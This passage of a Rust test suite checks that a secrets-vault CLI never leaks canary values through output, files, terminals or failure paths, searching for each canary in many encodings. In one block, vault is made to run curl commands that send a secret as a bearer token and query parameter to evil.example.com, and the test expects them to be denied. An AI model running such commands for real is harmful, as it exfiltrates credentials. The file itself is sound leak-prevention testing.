//! Leak canaries (issue #5): distinctive values of every awkward shape are stored, every
//! vault subcommand and every reachable failure path is run, and every place a value could
//! escape to is searched for each canary in every form the redactor claims to catch.
//!
//! Searched: vault's stdout and stderr (every invocation), everything vault wrote to a real
//! terminal (PTY sessions), every file under `VAULT_HOME` (audit.jsonl included) and vault's
//! own `TMPDIR` (a dedicated directory). The bar is zero hits. A value legitimately exists
//! only where the test itself put it: the stdin of `set`/`import`/`redact`, the test's input
//! files (outside the searched directories), and the child's environment and argv.
//!
//! The encodings are generated here independently of `src/redact.rs` (base64 with the
//! `base64` crate at each alignment, serde_json for JSON), so a form the redactor forgot to
//! generate shows up as a hit rather than passing by construction.

use std::cell::RefCell;
use std::fs;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use aho_corasick::AhoCorasick;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};

use crate::support::pty::{PtySession, same_termios};
use crate::support::{Fixture, Vault, chmod, without_terminal, wrap};

// Exit statuses, from src/exit.rs.
const USAGE: i32 = 2;
const DATA_ERR: i32 = 65;
const NO_INPUT: i32 = 66;
const CANT_CREATE: i32 = 73;
const IO_ERR: i32 = 74;
const LOCKED: i32 = 75;
const DENIED: i32 = 77;
const NOT_EXECUTABLE: i32 = 126;
const NOT_FOUND: i32 = 127;

/// How long a PTY step may take before the test fails instead of hanging.
const PTY_WAIT: Duration = Duration::from_secs(20);

/// A canary value and the name it is stored under (or a label, for values that must never
/// be stored).
struct Canary {
    name: &'static str,
    value: Vec<u8>,
}

fn canary(name: &'static str, value: impl AsRef<[u8]>) -> Canary {
    Canary {
        name,
        value: value.as_ref().to_vec(),
    }
}

/// 200 bytes, deterministic, alphanumeric with a recognisable prefix.
fn value_200() -> Vec<u8> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut out = b"c200-".to_vec();
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    while out.len() < 200 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        out.push(ALPHABET[(x % ALPHABET.len() as u64) as usize]);
    }
    out
}

/// The stored canaries, by the name each is stored under.
fn stored_canaries() -> Vec<Canary> {
    vec![
        // Exactly 8 bytes: accepted without --allow-short, and gets encodings.
        canary("C8", "k8Zq#3Wm"),
        canary("C200", value_200()),
        canary(
            "CMULTI",
            "mlA-first-line-7Hq2Xv\nmlB-second-line-Pz4Rk9\nmlC-third-line-Wd8Jn3",
        ),
        canary("CMETA", r#"m3ta'"\$`{}<>&-canary-V5x"#),
        canary("CBIN", b"\xff\xfebin-canary-\x80\x81\xc3(-Z7q"),
        canary("CPOL", "p0licy-canary-value-Y6t3Nd"),
        // Replaced: the new value is stored; the old one is checked as a "never stored"
        // canary below (it was stored once, so it must not linger either).
        canary("CREPL", "repl-new-canary-value-E1s5Gh"),
        canary("CIMPORT", "imp0rt-canary-value-R2d9Lm"),
        canary(
            "CIMPORT_ML",
            "imp0rt-ml-first-line-Q3x\nimp0rt-ml-second-line-L8w",
        ),
    ]
}

/// Values that must not appear anywhere either: refused, replaced, removed, or never given
/// to vault as a secret. vault does not know these, so they are never redacted: the only way
/// to find one is vault echoing its input.
fn unstored_canaries() -> Vec<Canary> {
    vec![
        canary("CREPL(old)", "repl-old-canary-value-A9c3Bx"),
        canary("CRM(removed)", "rem0ved-canary-value-T6k1Hs"),
        canary("bad import", "bad-imp0rt-canary-N4c7Qa"),
        canary("argv value", "argv-refused-canary-J5m2Xe"),
        canary("option value", "opt-refused-canary-G3h8Ry"),
        canary("NAME=VALUE", "nameeq-refused-canary-D4f6Ku"),
        canary("short", "Sh0#7qZ"),
        canary("existing", "exist1ng-refused-canary-U8w3Fb"),
        canary("NUL", "nul-canary-head-P9s2"),
        canary("oversized", "big-canary-L4q8Mv"),
        canary("wrong identity set", "wr0ngid-canary-value-B7v4Kc"),
        canary("corrupt store set", "c0rrupt-canary-value-H2j5Ws"),
        canary("tty mismatch 1", "tty-mismatch-one-canary-X3b7"),
        canary("tty mismatch 2", "tty-mismatch-two-canary-Y4c8"),
        canary("not an identity", "AGE-SECRET-KEY-1NOTAKEYCANARYF2K7WZ"),
    ]
}

// ---------------------------------------------------------------------------
// Encodings, generated independently of src/redact.rs.

/// The base64 characters of `value` placed at byte offset `align` (mod 3) of a larger blob
/// that depend on `value` alone: a substring of the base64 of any blob containing it there.
fn base64_inner(value: &[u8], align: usize, url: bool) -> Vec<u8> {
    let mut blob = vec![0u8; align];
    blob.extend_from_slice(value);
    let engine = if url {
        URL_SAFE_NO_PAD
    } else {
        STANDARD_NO_PAD
    };
    let text = engine.encode(&blob).into_bytes();
    let first = (8 * align).div_ceil(6);
    let last = 8 * (align + value.len()) / 6;
    text[first..last].to_vec()
}

fn hex(value: &[u8], upper: bool) -> Vec<u8> {
    let s: String = value.iter().map(|b| format!("{b:02x}")).collect();
    if upper {
        s.to_ascii_uppercase().into_bytes()
    } else {
        s.into_bytes()
    }
}

/// Percent-encoding keeping ASCII alphanumerics and `keep`; `plus` turns space into `+`.
fn percent(value: &[u8], keep: &[u8], upper: bool, plus: bool) -> Vec<u8> {
    let mut out = Vec::new();
    for &b in value {
        if b.is_ascii_alphanumeric() || keep.contains(&b) {
            out.push(b);
        } else if plus && b == b' ' {
            out.push(b'+');
        } else if upper {
            out.extend(format!("%{b:02X}").bytes());
        } else {
            out.extend(format!("%{b:02x}").bytes());
        }
    }
    out
}

/// A JSON string body: serde_json's escaping for UTF-8 text, the same rules byte by byte
/// otherwise (bytes ≥ 0x80 pass through, as a byte-oriented encoder writes them).
fn json_body(value: &[u8]) -> Vec<u8> {
    if let Ok(s) = std::str::from_utf8(value) {
        let quoted = serde_json::to_string(s).expect("serialise a string");
        return quoted.as_bytes()[1..quoted.len() - 1].to_vec();
    }
    let mut out = Vec::new();
    for &b in value {
        match b {
            b'"' => out.extend_from_slice(b"\\\""),
            b'\\' => out.extend_from_slice(b"\\\\"),
            b'\n' => out.extend_from_slice(b"\\n"),
            b'\r' => out.extend_from_slice(b"\\r"),
            b'\t' => out.extend_from_slice(b"\\t"),
            0x08 => out.extend_from_slice(b"\\b"),
            0x0c => out.extend_from_slice(b"\\f"),
            0..=0x1f => out.extend(format!("\\u{b:04x}").bytes()),
            _ => out.push(b),
        }
    }
    out
}

/// Go's HTML-safe JSON (`<`, `>`, `&` as `\u003c`, `\u003e`, `\u0026`), for UTF-8 text.
fn json_html(value: &[u8]) -> Option<Vec<u8>> {
    std::str::from_utf8(value).ok()?;
    let plain = String::from_utf8(json_body(value)).ok()?;
    Some(
        plain
            .replace('<', "\\u003c")
            .replace('>', "\\u003e")
            .replace('&', "\\u0026")
            .into_bytes(),
    )
}

/// Every form of `value` to search for, each as a substring that any occurrence of that form
/// contains: raw; for a multi-line value its CRLF form (a PTY's ONLCR) and each line of 8+
/// bytes; for a value of 8+ bytes, base64 standard and URL-safe at each of the 3 alignments,
/// lower and upper hex, percent-encoding (RFC 3986, encodeURIComponent, encodeURI, form;
/// both hex cases) and JSON string bodies (serde_json / JSON.stringify, Go HTML-safe).
/// Forms shorter than 8 bytes (other than the raw value) are left out: they are noise.
fn needles(value: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut out: Vec<(String, Vec<u8>)> = vec![("raw".into(), value.to_vec())];
    if value.contains(&b'\n') {
        let mut crlf = Vec::new();
        for &b in value {
            if b == b'\n' {
                crlf.push(b'\r');
            }
            crlf.push(b);
        }
        out.push(("crlf".into(), crlf));
        for line in value.split(|&b| b == b'\n') {
            out.push(("line".into(), line.to_vec()));
        }
    }
    if value.len() >= 8 {
        for align in 0..3 {
            out.push((format!("base64@{align}"), base64_inner(value, align, false)));
            out.push((
                format!("base64url@{align}"),
                base64_inner(value, align, true),
            ));
        }
        out.push(("hex".into(), hex(value, false)));
        out.push(("HEX".into(), hex(value, true)));
        for (what, keep, plus) in [
            ("percent rfc3986", &b"-_.~"[..], false),
            ("percent component", b"-_.!~*'()", false),
            ("percent uri", b"-_.!~*'();,/?:@&=+$#", false),
            ("percent form", b"*-._", true),
        ] {
            out.push((format!("{what} upper"), percent(value, keep, true, plus)));
            out.push((format!("{what} lower"), percent(value, keep, false, plus)));
        }
        out.push(("json".into(), json_body(value)));
        if let Some(j) = json_html(value) {
            out.push(("json html-safe".into(), j));
        }
    }
    let mut kept: Vec<(String, Vec<u8>)> = Vec::new();
    for (what, bytes) in out {
        if (what == "raw" || bytes.len() >= 8) && !kept.iter().any(|(_, b)| *b == bytes) {
            kept.push((what, bytes));
        }
    }
    kept
}

/// Text that holds every stored canary in every encoding a program might print it in, each
/// inside a larger blob at each base64 alignment: what a child prints (via `cat`) and what
/// `vault redact` is fed.
fn encoded_text(canaries: &[Canary]) -> Vec<u8> {
    let mut out = Vec::new();
    for c in canaries {
        let v = &c.value;
        let mut line = |what: &str, bytes: &[u8]| {
            out.extend_from_slice(format!("{}: {what}: <", c.name).as_bytes());
            out.extend_from_slice(bytes);
            out.extend_from_slice(b">\n");
        };
        line("raw", v);
        for (pre, post) in [(&b""[..], &b""[..]), (b"x", b"yz"), (b"xy", b"z")] {
            let blob = [pre, v.as_slice(), post].concat();
            line("base64", STANDARD.encode(&blob).as_bytes());
            line("base64url", URL_SAFE.encode(&blob).as_bytes());
        }
        line("hex", &hex(v, false));
        line("HEX", &hex(v, true));
        for (keep, plus) in [
            (&b"-_.~"[..], false),
            (b"-_.!~*'()", false),
            (b"-_.!~*'();,/?:@&=+$#", false),
            (b"*-._", true),
        ] {
            line("percent", &percent(v, keep, true, plus));
            line("percent lower", &percent(v, keep, false, plus));
        }
        if v.contains(&b'\n') {
            let crlf: Vec<u8> = v
                .iter()
                .flat_map(|&b| if b == b'\n' { vec![b'\r', b] } else { vec![b] })
                .collect();
            line("crlf", &crlf);
        }
        line("json", &json_body(v));
        if let Some(j) = json_html(v) {
            line("json html-safe", &j);
        }
    }
    out
}

// ---------------------------------------------------------------------------
// The searcher.

/// Everything collected for the search, and the search itself.
struct Haystacks {
    items: RefCell<Vec<(String, Vec<u8>)>>,
}

impl Haystacks {
    fn new() -> Haystacks {
        Haystacks {
            items: RefCell::new(Vec::new()),
        }
    }

    fn add(&self, label: impl Into<String>, bytes: &[u8]) {
        self.items.borrow_mut().push((label.into(), bytes.to_vec()));
    }

    /// Every file under `dir` (names and contents), each as its own haystack.
    fn add_tree(&self, dir: &Path) -> usize {
        let mut count = 0;
        let Ok(entries) = fs::read_dir(dir) else {
            return 0;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            self.add(
                format!("file name {}", path.display()),
                path.as_os_str().as_encoded_bytes(),
            );
            let meta = fs::symlink_metadata(&path).expect("stat");
            if meta.is_dir() {
                count += self.add_tree(&path);
            } else if meta.is_file() {
                self.add(
                    format!("file {}", path.display()),
                    &fs::read(&path).expect("read"),
                );
                count += 1;
            }
        }
        count
    }

    /// `(where, canary, encoding)` for every needle found in every haystack.
    fn hits(&self, canaries: &[(&str, &[u8])]) -> Vec<String> {
        let mut labels = Vec::new();
        let mut pats = Vec::new();
        for (name, value) in canaries {
            for (what, bytes) in needles(value) {
                labels.push(format!("{name} ({what})"));
                pats.push(bytes);
            }
        }
        let ac = AhoCorasick::new(&pats).expect("build the searcher");
        let mut found = Vec::new();
        for (label, bytes) in self.items.borrow().iter() {
            let mut seen = std::collections::BTreeSet::new();
            for m in ac.find_overlapping_iter(bytes.as_slice()) {
                if seen.insert(m.pattern().as_usize()) {
                    found.push(format!(
                        "{} in {label} at byte {}",
                        labels[m.pattern().as_usize()],
                        m.start()
                    ));
                }
            }
        }
        found
    }
}

/// Asserts no canary (in any form) is in any haystack; lists every hit otherwise.
#[track_caller]
fn assert_zero_hits(hay: &Haystacks, canaries: &[(&str, &[u8])]) {
    let hits = hay.hits(canaries);
    eprintln!(
        "leak search: {} canaries, {} haystacks, {} hits",
        canaries.len(),
        hay.items.borrow().len(),
        hits.len()
    );
    assert!(
        hits.is_empty(),
        "{} canary hit(s):\n{}",
        hits.len(),
        hits.join("\n")
    );
}

fn all_canaries<'a>(stored: &'a [Canary], unstored: &'a [Canary]) -> Vec<(&'a str, &'a [u8])> {
    stored
        .iter()
        .chain(unstored)
        .map(|c| (c.name, c.value.as_slice()))
        .collect()
}

/// The search is not vacuous: every form of every stored canary is found in the text the
/// children print and `redact` is fed (before vault redacts it).
#[test]
fn the_search_finds_every_form() {
    let stored = stored_canaries();
    let hay = Haystacks::new();
    hay.add("encoded text", &encoded_text(&stored));
    let hits = hay.hits(&all_canaries(&stored, &[]));
    for c in &stored {
        for (what, _) in needles(&c.value) {
            let label = format!("{} ({what})", c.name);
            assert!(
                hits.iter().any(|h| h.starts_with(&format!("{label} in "))),
                "{label} is not found in the encoded text"
            );
        }
    }
    let eight: Vec<String> = needles(b"k8Zq#3Wm").into_iter().map(|(w, _)| w).collect();
    for want in [
        "base64@1",
        "base64@2",
        "hex",
        "HEX",
        "percent rfc3986 upper",
    ] {
        assert!(
            eight.contains(&want.to_string()),
            "8 bytes get {want}: {eight:?}"
        );
    }
}

// ---------------------------------------------------------------------------
// The probe: a vault whose every invocation is recorded.

struct Probe {
    v: Vault,
    /// vault's `TMPDIR`: searched at the end.
    tmpdir: PathBuf,
    /// The test's own files (plain values): never searched.
    inputs: PathBuf,
    hay: Haystacks,
}

impl Probe {
    fn new() -> Probe {
        let v = Vault::new();
        let tmpdir = v.path("vault-tmp");
        let inputs = v.path("inputs");
        for d in [&tmpdir, &inputs] {
            fs::create_dir(d).expect("mkdir");
            chmod(d, 0o700);
        }
        Probe {
            v,
            tmpdir,
            inputs,
            hay: Haystacks::new(),
        }
    }

    fn input(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.inputs.join(name);
        fs::write(&path, bytes).expect("write input");
        path
    }

    /// vault with the fixture identity, its own TMPDIR, the noisiest Rust diagnostics
    /// switched on, and no controlling terminal.
    fn cmd(&self) -> std::process::Command {
        self.headless(self.v.std_cmd())
    }

    fn headless(&self, mut c: std::process::Command) -> std::process::Command {
        c.env("TMPDIR", &self.tmpdir)
            .env("RUST_LOG", "trace")
            .env("RUST_BACKTRACE", "full")
            .env("RUST_LIB_BACKTRACE", "1");
        without_terminal(&mut c);
        c
    }

    /// Runs `c` with `stdin`, records stdout and stderr, and checks the exit status.
    #[track_caller]
    fn go(&self, label: &str, c: std::process::Command, stdin: &[u8], code: i32) -> Output {
        let out = wrap(c)
            .write_stdin(stdin.to_vec())
            .output()
            .expect("run vault");
        self.hay.add(format!("{label}: stdout"), &out.stdout);
        self.hay.add(format!("{label}: stderr"), &out.stderr);
        assert_eq!(
            out.status.code(),
            Some(code),
            "{label}: exit status; stdout {:?}; stderr {:?}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    #[track_caller]
    fn vault(&self, label: &str, args: &[&str], stdin: &[u8], code: i32) -> Output {
        let mut c = self.cmd();
        c.args(args);
        self.go(label, c, stdin, code)
    }

    fn with_value(value: &[u8]) -> Vec<u8> {
        let mut v = value.to_vec();
        v.push(b'\n');
        v
    }
}

fn ps(p: &Path) -> &str {
    p.to_str().expect("UTF-8 path")
}

/// A dotenv value in double quotes (`\` `"` `$` and newlines escaped).
fn dq(value: &[u8]) -> Vec<u8> {
    let mut out = b"\"".to_vec();
    for &b in value {
        match b {
            b'\\' | b'"' | b'$' => out.extend_from_slice(&[b'\\', b]),
            b'\n' => out.extend_from_slice(b"\\n"),
            _ => out.push(b),
        }
    }
    out.push(b'"');
    out
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// (1) Every subcommand and failure path, with zero canary hits anywhere.
#[test]
fn canaries_never_leak_through_any_command() {
    let p = Probe::new();
    let stored = stored_canaries();
    let unstored = unstored_canaries();
    let val = |name: &str| -> Vec<u8> {
        stored
            .iter()
            .chain(&unstored)
            .find(|c| c.name == name)
            .unwrap_or_else(|| panic!("no canary {name}"))
            .value
            .clone()
    };

    // --- init, set, replace, rm -------------------------------------------------------
    p.vault("init", &["init"], b"", 0);
    p.vault("init again", &["init"], b"", CANT_CREATE);
    for name in ["C8", "C200", "CMULTI", "CMETA", "CBIN"] {
        p.vault(
            &format!("set {name}"),
            &["set", name],
            &Probe::with_value(&val(name)),
            0,
        );
    }
    p.vault(
        "set CPOL",
        &[
            "set",
            "CPOL",
            "--allow",
            "api.example.com",
            "--allow",
            "www.example.com",
            "--description",
            "policy canary",
        ],
        &Probe::with_value(&val("CPOL")),
        0,
    );
    p.vault(
        "set CREPL",
        &["set", "CREPL"],
        &Probe::with_value(&val("CREPL(old)")),
        0,
    );
    p.vault(
        "set CREPL --replace",
        &["set", "CREPL", "--replace"],
        &Probe::with_value(&val("CREPL")),
        0,
    );
    p.vault(
        "set CRM",
        &["set", "CRM"],
        &Probe::with_value(&val("CRM(removed)")),
        0,
    );
    p.vault("rm CRM", &["rm", "CRM"], b"", 0);
    p.vault("rm CRM again", &["rm", "CRM"], b"", DATA_ERR);

    // --- refused sets ---------------------------------------------------------------------
    let argv_value = String::from_utf8(val("argv value")).expect("UTF-8");
    p.vault(
        "set with the value in argv",
        &["set", "NEW_ONE", &argv_value],
        b"",
        USAGE,
    );
    let opt_value = format!(
        "--value={}",
        String::from_utf8(val("option value")).expect("UTF-8")
    );
    p.vault(
        "set with a value-looking option",
        &["set", "NEW_ONE", &opt_value],
        b"",
        USAGE,
    );
    let name_eq = format!(
        "NEW_ONE={}",
        String::from_utf8(val("NAME=VALUE")).expect("UTF-8")
    );
    p.vault("set NAME=VALUE", &["set", &name_eq], b"", DATA_ERR);
    p.vault(
        "set a short value",
        &["set", "NEW_ONE"],
        &Probe::with_value(&val("short")),
        DATA_ERR,
    );
    p.vault(
        "set an existing name",
        &["set", "C200"],
        &Probe::with_value(&val("existing")),
        CANT_CREATE,
    );
    let mut nul = val("NUL");
    nul.extend_from_slice(b"\0nul-canary-tail");
    p.vault(
        "set a value with NUL",
        &["set", "NEW_ONE"],
        &Probe::with_value(&nul),
        DATA_ERR,
    );
    let big: Vec<u8> = val("oversized").repeat(140 * 1024 / 17 + 1);
    p.vault(
        "set an oversized value",
        &["set", "NEW_ONE"],
        &big,
        DATA_ERR,
    );
    p.vault(
        "set --replace of an unknown name",
        &["set", "NOT_THERE", "--replace"],
        &Probe::with_value(&val("existing")),
        DATA_ERR,
    );

    // --- import ---------------------------------------------------------------------------
    let mut good = b"# canaries\nCIMPORT=".to_vec();
    good.extend_from_slice(&val("CIMPORT"));
    good.extend_from_slice(b"\nexport CIMPORT_ML=");
    good.extend_from_slice(&dq(&val("CIMPORT_ML")));
    good.push(b'\n');
    let good = p.input("good.env", &good);
    p.vault("import", &["import", ps(&good)], b"", 0);
    p.vault(
        "import again (existing)",
        &["import", ps(&good)],
        b"",
        CANT_CREATE,
    );
    let bad_value = String::from_utf8(val("bad import")).expect("UTF-8");
    let bad = format!(
        "OK_LOOKING={bad_value}\nthis line has no equals {bad_value}\nBAD-NAME={bad_value}\nUNTERMINATED=\"{bad_value}\nPATH={bad_value}\n"
    );
    let bad = p.input("bad.env", bad.as_bytes());
    p.vault("import a bad file", &["import", ps(&bad)], b"", DATA_ERR);
    let bad2 = p.input(
        "bad2.env",
        format!("GOOD_NAME={bad_value}\nSHORT_ONE=Sh0#7qZ\n").as_bytes(),
    );
    p.vault(
        "import a file with a short value",
        &["import", ps(&bad2)],
        b"",
        DATA_ERR,
    );
    p.vault(
        "import from stdin (bad)",
        &["import", "-"],
        format!("X {bad_value}\n").as_bytes(),
        DATA_ERR,
    );
    p.vault(
        "import a missing file",
        &["import", ps(&p.inputs.join("missing.env"))],
        b"",
        NO_INPUT,
    );

    // --- list, policy, audit, status, recipients, keygen, git-textconv ---------------------
    p.vault("list", &["list"], b"", 0);
    p.vault("list --json", &["list", "--json"], b"", 0);
    p.vault(
        "policy set (narrowing)",
        &["policy", "set", "CPOL", "--allow", "api.example.com"],
        b"",
        0,
    );
    p.vault(
        "policy set (widening, no terminal)",
        &["policy", "set", "CPOL", "--allow", "*"],
        b"",
        DENIED,
    );
    p.vault(
        "policy set of an unknown name",
        &["policy", "set", "NOT_THERE", "--allow", "a.example.com"],
        b"",
        DATA_ERR,
    );
    p.vault("policy show", &["policy", "show"], b"", 0);
    p.vault("policy show --json", &["policy", "show", "--json"], b"", 0);
    p.vault("policy show C200", &["policy", "show", "C200"], b"", 0);
    p.vault("status", &["status"], b"", 0);
    p.vault("status --json", &["status", "--json"], b"", 0);
    p.vault("recipients list", &["recipients", "list"], b"", 0);
    p.vault(
        "recipients list --json",
        &["recipients", "list", "--json"],
        b"",
        0,
    );
    let other = Fixture::generate();
    p.vault(
        "recipients add (no terminal)",
        &["recipients", "add", &other.recipient],
        b"",
        DENIED,
    );
    p.vault("keygen", &["keygen"], b"", 0);
    let keyfile = p.inputs.join("keygen.txt");
    p.vault("keygen -o", &["keygen", "-o", ps(&keyfile)], b"", 0);
    p.vault("git-textconv", &["git-textconv", ps(&p.v.store())], b"", 0);

    // --- scan: finds the canaries in files and names only locations -----------------------
    let scan_dir = p.inputs.join("scan");
    fs::create_dir(&scan_dir).expect("mkdir");
    fs::write(scan_dir.join("leaky.log"), encoded_text(&stored)).expect("write");
    let out = p.vault("scan", &["scan", ps(&scan_dir)], b"", 1);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("C200"),
        "scan finds C200: {:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    p.vault("scan --json", &["scan", "--json", ps(&scan_dir)], b"", 1);

    // --- run --------------------------------------------------------------------------------
    let encoded = p.input("encoded.txt", &encoded_text(&stored));
    let print_env = r#"for n in C8 C200 CMULTI CMETA CBIN CPOL CREPL CIMPORT CIMPORT_ML; do
        eval "v=\$$n"; printf '%s=<%s>\n' "$n" "$v"; printf 'stderr %s=<%s>\n' "$n" "$v" >&2
        printf '%s' "$v" | base64 -w0; echo; printf '%s' "$v" | od -An -tx1 | tr -d ' \n'; echo
    done; cat "$0""#;
    for (label, mode) in [
        ("run (auto: pipes)", None),
        ("run --no-pty", Some("--no-pty")),
        ("run --pty", Some("--pty")),
    ] {
        let mut args = vec!["run"];
        args.extend(mode);
        args.extend(["--", "sh", "-c", print_env, ps(&encoded)]);
        let out = p.vault(label, &args, b"", 0);
        let text = String::from_utf8_lossy(&out.stdout);
        for c in &stored {
            assert!(
                text.contains(&format!("[REDACTED:{}]", c.name)),
                "{label}: no [REDACTED:{}] in {text:?}",
                c.name
            );
        }
    }
    // A placeholder in argv: the child prints its argument.
    let out = p.vault(
        "run with placeholders",
        &[
            "run",
            "--",
            "sh",
            "-c",
            r#"printf '%s\n' "$@""#,
            "sh",
            "{{secure.C200}}",
            "pre-{{secure.CMETA}}-post",
            "{{secure.CBIN}}",
        ],
        b"",
        0,
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("pre-[REDACTED:CMETA]-post"));
    // --only: the others are not injected, but still redacted.
    let raw_all: Vec<u8> = stored
        .iter()
        .flat_map(|c| [c.value.clone(), b"\n".to_vec()].concat())
        .collect();
    let raw_file = p.input("raw.txt", &raw_all);
    let out = p.vault(
        "run --only C8",
        &[
            "run",
            "--only",
            "C8",
            "--",
            "sh",
            "-c",
            r#"printf '[%s][%s]\n' "${C200-unset}" "$C8"; cat "$0""#,
            ps(&raw_file),
        ],
        b"",
        0,
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("[unset][[REDACTED:C8]]"),
        "{:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    // The child crashes after printing.
    for (sig, code) in [("SEGV", 139), ("ABRT", 134)] {
        p.vault(
            &format!("run, child killed by SIG{sig}"),
            &[
                "run",
                "--",
                "sh",
                "-c",
                &format!(r#"printf '%s' "$C200"; printf '%s' "$CMETA" >&2; kill -{sig} $$"#),
            ],
            b"",
            code,
        );
    }
    // exec failures, with a placeholder in argv.
    p.vault(
        "run, command not found",
        &["run", "--", "/nonexistent/prog", "{{secure.C200}}"],
        b"",
        NOT_FOUND,
    );
    let not_exec = p.input("not-executable", b"#!/bin/sh\n");
    p.vault(
        "run, command not executable",
        &["run", "--", ps(&not_exec), "{{secure.C200}}"],
        b"",
        NOT_EXECUTABLE,
    );
    p.vault(
        "run, program is a placeholder",
        &["run", "--", "{{secure.C200}}", "x"],
        b"",
        DENIED,
    );
    p.vault(
        "run, unknown placeholder",
        &["run", "--", "echo", "{{secure.NOPE}}", "{{secure.C200}}"],
        b"",
        DATA_ERR,
    );
    p.vault(
        "run --only unknown",
        &["run", "--only", "NOPE", "--", "true"],
        b"",
        DATA_ERR,
    );
    // Denied egress: a URL in argv, placeholders and a literally typed value.
    let c200 = String::from_utf8(val("C200")).expect("UTF-8");
    p.vault(
        "run, egress denied (placeholders)",
        &[
            "run",
            "--",
            "curl",
            "-H",
            "Authorization: Bearer {{secure.C200}}",
            "https://evil.example.com/?q={{secure.CMETA}}",
        ],
        b"",
        DENIED,
    );
    p.vault(
        "run, egress denied (value typed literally)",
        &[
            "run",
            "--",
            "curl",
            "-H",
            &format!("Authorization: Bearer {c200}"),
            &format!("https://evil.example.com/?q={c200}"),
        ],
        b"",
        DENIED,
    );
    // A value typed literally in an allowed run: the audit log keeps argv redacted.
    p.vault(
        "run with a literal value in argv",
        &["run", "--", "true", &c200],
        b"",
        0,
    );

    // --- redact -------------------------------------------------------------------------------
    let mut feed = encoded_text(&stored);
    feed.extend_from_slice(&raw_all);
    let out = p.vault("redact", &["redact"], &feed, 0);
    assert!(String::from_utf8_lossy(&out.stdout).contains("[REDACTED:CBIN]"));

    // --- audit ---------------------------------------------------------------------------------
    p.vault("audit", &["audit"], b"", 0);
    p.vault("audit --json", &["audit", "--json"], b"", 0);
    p.vault("audit --since", &["audit", "--since", "1h"], b"", 0);
    p.vault("audit verify", &["audit", "verify"], b"", 0);

    // --- wrong, bad and missing identities -----------------------------------------------------
    let with_identity = |text: &str| {
        let mut c = p.cmd();
        c.env("VAULT_IDENTITY", text);
        c
    };
    let wrong_set = Probe::with_value(&val("wrong identity set"));
    for (label, args, stdin) in [
        ("list", &["list"][..], &b""[..]),
        ("set", &["set", "NEW_ONE"], wrong_set.as_slice()),
        (
            "run",
            &["run", "--", "sh", "-c", "cat \"$0\"", ps(&raw_file)],
            b"",
        ),
        ("redact", &["redact"], feed.as_slice()),
        ("policy show", &["policy", "show"], b""),
    ] {
        for (who, text) in [
            ("wrong identity", other.identity.clone()),
            (
                "not an identity",
                String::from_utf8(val("not an identity")).expect("UTF-8"),
            ),
        ] {
            let mut c = with_identity(&text);
            c.args(args);
            let out = p.go(&format!("{label} with {who}"), c, stdin, LOCKED);
            assert!(out.stdout.is_empty(), "{label} with {who}: stdout");
        }
    }
    let mut c = p.headless(p.v.std_cmd_no_identity());
    c.arg("redact");
    let out = p.go("redact with no identity", c, &feed, LOCKED);
    assert!(out.stdout.is_empty());
    let mut c = with_identity(&other.identity);
    c.args(["audit", "verify"]);
    p.go("audit verify with the wrong identity", c, b"", 0);

    // --- damaged store ---------------------------------------------------------------------------
    let good_store = p.v.store_bytes().expect("store");
    let mut damaged = good_store.clone();
    let mid = damaged.len() - 40;
    damaged[mid] ^= 0x04;
    for (what, bytes) in [
        ("bit flip", damaged),
        ("truncated", good_store[..good_store.len() - 30].to_vec()),
    ] {
        fs::write(p.v.store(), &bytes).expect("damage the store");
        let corrupt_set = Probe::with_value(&val("corrupt store set"));
        for (label, args, stdin) in [
            ("list", &["list"][..], &b""[..]),
            ("set", &["set", "NEW_ONE"], corrupt_set.as_slice()),
            (
                "run",
                &["run", "--", "sh", "-c", "cat \"$0\"", ps(&raw_file)],
                b"",
            ),
            ("redact", &["redact"], feed.as_slice()),
            ("policy show", &["policy", "show"], b""),
            ("import", &["import", ps(&good)], b""),
        ] {
            let out = p.vault(&format!("{label} with a {what} store"), args, stdin, IO_ERR);
            assert!(out.stdout.is_empty(), "{label} with a {what} store: stdout");
        }
        p.vault(
            &format!("status with a {what} store"),
            &["status"],
            b"",
            IO_ERR,
        );
        p.vault(
            &format!("audit verify with a {what} store"),
            &["audit", "verify"],
            b"",
            0,
        );
        assert_eq!(p.v.store_bytes().as_deref(), Some(bytes.as_slice()));
    }
    fs::write(p.v.store(), &good_store).expect("restore the store");
    p.vault("list after restore", &["list"], b"", 0);

    // --- what is stored is what was set (checked by decrypting in the test) ----------------------
    let mut names = p.v.stored_names();
    names.sort();
    let mut want: Vec<&str> = stored.iter().map(|c| c.name).collect();
    want.sort_unstable();
    assert_eq!(names, want);
    for c in &stored {
        assert_eq!(
            p.v.stored_value(c.name).as_deref(),
            Some(&c.value[..]),
            "{}",
            c.name
        );
    }

    // --- the search --------------------------------------------------------------------------------
    let home_files = p.hay.add_tree(&p.v.home);
    let tmp_files = p.hay.add_tree(&p.tmpdir);
    eprintln!("searched {home_files} file(s) under VAULT_HOME, {tmp_files} under TMPDIR");
    let audit = fs::read(p.v.home.join("audit.jsonl")).expect("audit.jsonl");
    assert!(audit.len() > 1000, "the audit log holds the session");
    let mut canaries = all_canaries(&stored, &unstored);
    canaries.push(("identity", p.v.fixture.identity.as_bytes()));
    assert_zero_hits(&p.hay, &canaries);
}

/// (1) What vault writes to a real terminal: the hidden prompt of `set` (typed twice, and a
/// mismatch), a run whose child prints every canary on the PTY, an echo of typed input, a
/// crash, refusals. Zero hits in the terminal's byte stream, and the terminal's settings
/// are restored after each.
#[test]
fn canaries_never_reach_the_terminal() {
    let p = Probe::new();
    let stored = stored_canaries();
